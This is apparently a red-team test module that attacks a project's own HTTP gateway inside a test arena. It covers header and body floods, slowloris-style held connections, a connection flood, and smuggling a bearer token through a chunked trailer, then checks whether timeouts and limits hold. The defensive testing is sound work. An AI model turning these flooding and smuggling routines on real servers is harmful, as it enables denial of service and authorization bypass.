"""Exhaust a gateway before it knows a caller: heads, bodies and pauses without end, and too many connections."""

import asyncio
from dataclasses import dataclass
from pathlib import Path
from urllib.parse import urlsplit

from proofs.kit.gateway import GatewayHandle
from proofs.kit.http_client import HttpConnection
from proofs.red_team.arena import Arena
from proofs.red_team.attack import AttackLog, Control, Finding

NAME = "connections"
CONTROL = Control(
    variant="red_team_unlimited_connections",
    attempts=frozenset({"headers without end", "half-open requests are held"}),
)
_MEGABYTE = 1 << 20
_MOST_BYTES = 64 * _MEGABYTE
_MOST_ACCEPTED = 16 * _MEGABYTE
"""What a gateway and the buffers of two sockets may take of a message that is refused."""
_SECONDS = 1
_PATIENCE_SECONDS = 5.0
_HALF_OPEN = 200
_ENV = {
    "DEPUTIZE_SERVER__HEADER_TIMEOUT_SECONDS": str(_SECONDS),
    "DEPUTIZE_SERVER__BODY_TIMEOUT_SECONDS": str(_SECONDS),
    "DEPUTIZE_SERVER__IDLE_TIMEOUT_SECONDS": str(_SECONDS),
    "DEPUTIZE_SERVER__MAX_CONNECTIONS": "300",
}
Streams = tuple[asyncio.StreamReader, asyncio.StreamWriter]


async def attack(arena: Arena, log: AttackLog) -> None:
    gateway = await arena.start_gateway(tools="effects.py", env=_ENV)
    smuggler = TrailerSmuggler(gateway=gateway, token=arena.issuer.issue_token("ann"))
    await log.attempt(
        "a trailer authorizes a request", smuggler.authorize_by_trailer, baseline=smuggler.authorize_by_header
    )
    flooder = Flooder(gateway)
    attempts = {
        "headers without end": flooder.send_endless_headers,
        "a request line without end": flooder.send_endless_request_line,
        "a hundred thousand headers": flooder.send_many_headers,
        "a chunked body without end": flooder.send_endless_body,
        "half-open requests are held": flooder.hold_half_open_requests,
        "a body that never arrives is waited for": flooder.hold_body,
        "idle connections are held": flooder.hold_idle_connections,
        "connections without end hide health": flooder.flood_connections,
    }
    for name, attempt in attempts.items():
        await log.attempt(name, attempt)


@dataclass(frozen=True, slots=True)
class Flooder:
    """A client without a token."""

    gateway: GatewayHandle

    async def send_endless_headers(self) -> Finding:
        return await self._flood(b"GET /healthz HTTP/1.1\r\nhost: x\r\n", b"x-a: " + b"b" * 8000 + b"\r\n")

    async def send_endless_request_line(self) -> Finding:
        return await self._flood(b"GET /", b"a" * 65_536)

    async def send_many_headers(self) -> Finding:
        return await self._flood(b"GET /healthz HTTP/1.1\r\nhost: x\r\n", b"a: b\r\n" * 10_000)

    async def send_endless_body(self) -> Finding:
        head = b"POST /v1/calls HTTP/1.1\r\nhost: x\r\ntransfer-encoding: chunked\r\n\r\n"
        return await self._flood(head, b"10000\r\n" + b" " * 65_536 + b"\r\n")

    async def hold_half_open_requests(self) -> Finding:
        return await self._hold(b"POST /v1/calls HTTP/1.1\r\nhost: x\r\n", _HALF_OPEN)

    async def hold_body(self) -> Finding:
        return await self._hold(b"POST /v1/calls HTTP/1.1\r\nhost: x\r\ncontent-length: 1000\r\n\r\n{", 20)

    async def hold_idle_connections(self) -> Finding:
        return await self._hold(b"GET /healthz HTTP/1.1\r\nhost: x\r\n\r\n", 20)

    async def flood_connections(self) -> Finding:
        """Open more than the limit; health must be answered on the private listener meanwhile."""
        streams = [await self._connect() for _ in range(400)]
        try:
            async with asyncio.timeout(_PATIENCE_SECONDS):
                health = HttpConnection.for_url(self.gateway.metrics_url)
                status = (await health.get("/readyz")).status
                health.close()
        except (TimeoutError, OSError, EOFError):
            status = 0
        finally:
            _close(streams)
        return Finding(succeeded=status != 200, evidence=f"/readyz answered {status} beside {len(streams)} connections")

    async def _flood(self, start: bytes, piece: bytes) -> Finding:
        """Send until the gateway ends the connection, and count what it took."""
        before, sent = self._read_memory(), len(start)
        reader, writer = await self._connect()
        try:
            async with asyncio.timeout(30):
                writer.write(start)
                while sent < _MOST_BYTES and not reader.at_eof():
                    writer.write(piece)
                    await writer.drain()
                    sent += len(piece)
        except (ConnectionError, TimeoutError):
            pass
        finally:
            writer.close()
        grown = self._read_memory() - before
        return Finding(
            succeeded=sent > _MOST_ACCEPTED or grown > 32 * _MEGABYTE,
            evidence=f"{sent / _MEGABYTE:.1f} MB taken, memory grew by {grown / _MEGABYTE:.0f} MB",
        )

    async def _hold(self, data: bytes, count: int) -> Finding:
        """Open connections, send something incomplete, and count those that are open after the limit."""
        streams = [await self._connect() for _ in range(count)]
        for _, writer in streams:
            writer.write(data)
        await asyncio.wait([asyncio.create_task(_read_to_end(each)) for each, _ in streams], timeout=_PATIENCE_SECONDS)
        held = sum(not reader.at_eof() for reader, _ in streams)
        _close(streams)
        return Finding(succeeded=held > 0, evidence=f"{held} of {count} open {_PATIENCE_SECONDS:.0f} s later")

    async def _connect(self) -> Streams:
        parts = urlsplit(self.gateway.url)
        return await asyncio.open_connection(parts.hostname, parts.port)

    def _read_memory(self) -> int:
        lines = Path(f"/proc/{self.gateway.child.pid}/status").read_text().splitlines()
        return next(int(line.split()[1]) * 1024 for line in lines if line.startswith("VmRSS"))


@dataclass(frozen=True, kw_only=True, slots=True)
class TrailerSmuggler:
    """A client that sends its token where a proxy in between does not look."""

    gateway: GatewayHandle
    token: str

    async def authorize_by_header(self) -> Finding:
        return await self._send(self._authorization, b"")

    async def authorize_by_trailer(self) -> Finding:
        return await self._send(b"", self._authorization)

    @property
    def _authorization(self) -> bytes:
        return b"authorization: Bearer " + self.token.encode() + b"\r\n"

    async def _send(self, header: bytes, trailer: bytes) -> Finding:
        parts = urlsplit(self.gateway.url)
        reader, writer = await asyncio.open_connection(parts.hostname, parts.port)
        body = b'{"tool":"effects.look","arguments":{}}'
        head = b"POST /v1/calls HTTP/1.1\r\nhost: x\r\ncontent-type: application/json\r\nconnection: close\r\n"
        chunks = b"transfer-encoding: chunked\r\n\r\n%x\r\n%s\r\n0\r\n%s\r\n" % (len(body), body, trailer)
        try:
            writer.write(head + header + chunks)
            async with asyncio.timeout(_PATIENCE_SECONDS):
                status = (await reader.readline()).decode(errors="replace").strip()
        finally:
            writer.close()
        # The call lacks an argument: whoever is believed is told so, and whoever is not is told that.
        return Finding(succeeded=" 400 " in status, evidence=status)


async def _read_to_end(reader: asyncio.StreamReader) -> None:
    try:
        await reader.read()
    except ConnectionError:
        reader.feed_eof()


def _close(streams: list[Streams]) -> None:
    for _, writer in streams:
        writer.close()
